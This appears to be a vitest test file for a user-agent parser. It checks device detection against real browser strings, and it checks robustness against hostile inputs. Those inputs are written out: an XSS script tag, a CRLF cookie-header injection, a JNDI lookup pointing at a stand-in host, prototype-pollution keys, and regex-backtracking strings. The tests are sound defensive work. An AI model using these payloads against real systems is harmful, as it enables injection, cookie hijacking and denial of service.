import { describeDevice, deviceName } from "@sojourn/watch/device";
import { describe, expect, test } from "vitest";

const WEBKIT = "AppleWebKit/537.36 (KHTML, like Gecko)";
const CHROME = `Mozilla/5.0 (Windows NT 10.0; Win64; x64) ${WEBKIT} Chrome/130.0.0.0 Safari/537.36`;
const SAFARI = "AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1";

const devices: readonly [name: string, kind: string, userAgent: string][] = [
  [
    "Firefox on Windows",
    "desktop",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0",
  ],
  ["Chrome on Windows", "desktop", CHROME],
  ["Edge on Windows", "desktop", `${CHROME} Edg/130.0.0.0`],
  ["Opera on Windows", "desktop", `${CHROME} OPR/115.0.0.0`],
  [
    "Safari on macOS",
    "desktop",
    `Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) ${SAFARI} Safari/605.1.15`,
  ],
  [
    "Firefox on Linux",
    "desktop",
    "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
  ],
  [
    "Chrome on ChromeOS",
    "desktop",
    `Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) ${WEBKIT} Chrome/130.0.0.0 Safari/537.36`,
  ],
  [
    "Safari on iPhone",
    "mobile",
    `Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) ${SAFARI} Mobile/15E148 Safari/604.1`,
  ],
  [
    "Chrome on iPhone",
    "mobile",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/130.0.6723.90 Mobile/15E148 Safari/604.1",
  ],
  [
    "Safari on iPad",
    "tablet",
    `Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) ${SAFARI} Mobile/15E148 Safari/604.1`,
  ],
  [
    "Chrome on Android",
    "mobile",
    `Mozilla/5.0 (Linux; Android 10; K) ${WEBKIT} Chrome/130.0.0.0 Mobile Safari/537.36`,
  ],
  [
    "Samsung Internet on Android",
    "mobile",
    `Mozilla/5.0 (Linux; Android 14; SM-S928B) ${WEBKIT} SamsungBrowser/26.0 Chrome/122.0.0.0 Mobile Safari/537.36`,
  ],
  [
    "Android Browser",
    "mobile",
    "Mozilla/5.0 (Linux; U; Android 2.3; de-de) AppleWebKit/533.1 (KHTML, like Gecko) Version/4.0 Mobile Safari/533.1",
  ],
  ["Googlebot", "bot", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"],
  [
    "Tizen",
    "tv",
    "Mozilla/5.0 (SMART-TV; Tizen 6.0) AppleWebKit/538.1 Version/6.0 TV Safari/538.1",
  ],
];

describe("a list of devices", () => {
  test.each(devices)("%s (%s)", (name, kind, userAgent) => {
    expect(describeDevice(userAgent)).toMatchObject({ name, kind });
    expect(deviceName(userAgent)).toBe(name);
  });

  test.each([null, "", "   ", "curl/8.10.1", "MyApp/1.0 (build 7)", "\0", "Mozilla/5.0"])(
    "%j is an unknown device",
    (userAgent) => {
      expect(describeDevice(userAgent)).toEqual({
        name: "Unknown device",
        browser: null,
        os: null,
        kind: "unknown",
      });
    },
  );

  test("browser and system stand alone, too", () => {
    expect(describeDevice(CHROME)).toEqual({
      name: "Chrome on Windows",
      browser: "Chrome",
      os: "Windows",
      kind: "desktop",
    });
  });
});

describe("a hostile user agent", () => {
  const payloads = [
    "<script>alert(1)</script>",
    "\r\nSet-Cookie: a=b",
    "\u001b[31m",
    "\u2028",
    "\u202e",
    "\ud800",
    "${jndi:ldap://evil}",
    "__proto__",
    "constructor",
    "IPHONE",
  ];
  const around: readonly ((payload: string) => string)[] = [
    (payload) => payload,
    (payload) => `${payload}/1.0 (${payload})`,
    (payload) => `Mozilla/5.0 (${payload}) ${payload}/1.0 Safari/1`,
    (payload) => `Mozilla/5.0 (iPhone; ${payload}) Version/${payload} Safari/${payload}`,
    (payload) => `${payload} Windows ${payload} NT Chrome/${payload}`,
    (payload) => `iPhOnE ${payload}`,
  ];

  test.each(payloads)("%j never comes through (ASVS 16.4.1)", (payload) => {
    for (const wrap of around) {
      const { name, browser, os, kind } = describeDevice(wrap(payload));
      for (const text of [name, browser ?? "", os ?? "", kind]) {
        expect(text).not.toContain(payload);
        expect(text).toMatch(/^[A-Za-z0-9 -]*$/);
      }
    }
  });

  // Each is shaped after a regular expression that a parser of user agents has or had.
  const long = (piece: string) => piece.repeat(Math.ceil(100_000 / piece.length));
  test.each([
    ["letters", long("a")],
    ["slashes", long("/")],
    ["pairs", long("a/1 ")],
    ["parentheses", long("a/(")],
    ["blanks", `Windows${long(" ")}`],
    ["digits", `Chrome/${long("1_")}!`],
    ["Firefox on iPad", `Macintosh${long(" FxiOS")}`],
    ["control characters", long("\u0000\n\u202e")],
    ["surrogates", long("\ud83d")],
  ])("100 kB of %s take as long as 1 kB", (_, userAgent) => {
    const began = performance.now();
    for (let i = 0; i < 100; i++) deviceName(userAgent);
    // 100 of them; a real one takes some 20 us. What backtracks over 100 kB takes seconds, each.
    expect(performance.now() - began).toBeLessThan(1_000);
    expect(deviceName(userAgent)).toMatch(/^[A-Za-z ]+$/);
  });
});
